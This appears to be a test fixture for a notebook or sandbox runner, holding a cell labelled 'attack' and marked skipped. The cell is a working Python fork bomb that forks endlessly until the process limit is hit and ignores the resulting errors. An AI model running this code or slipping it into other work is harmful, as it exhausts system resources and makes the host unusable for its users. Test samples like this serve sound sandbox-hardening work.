# ruff: noqa
# description: a fork bomb in a cell: every process forks until the process limit, then spins
# note: skipped
# %% attack
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
